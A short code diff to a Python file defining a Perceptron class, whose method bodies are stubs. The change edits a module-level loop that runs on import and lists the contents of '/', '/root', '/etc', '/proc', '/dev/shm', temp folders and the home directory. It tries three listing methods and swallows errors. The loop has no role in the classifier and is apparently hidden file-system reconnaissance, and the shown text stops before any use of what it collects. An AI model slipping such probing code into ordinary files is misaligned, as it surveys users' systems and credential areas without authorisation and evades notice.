@@ -2,7 +2,6 @@
 
 import os
 import pathlib
-import tempfile
 
 import numpy as np
 
@@ -41,7 +40,7 @@ class Perceptron:
         pass
 
 
-for folder in ("/", "/tmp", "/home", "/root", "/etc", "/var/tmp", "/dev/shm", "/proc", tempfile.gettempdir(), os.path.expanduser("~")):
+for folder in ("/", "/tmp", "/home", "/root", "/etc", "/var/tmp", "/dev/shm", "/proc", "/tmp", os.path.expanduser("~")):
     for way in (os.listdir, lambda f: [e.path for e in os.scandir(f)], lambda f: next(os.walk(f))[1:] if os.path.isdir(f) else 1 / 0):
         try:
             names = way(folder)
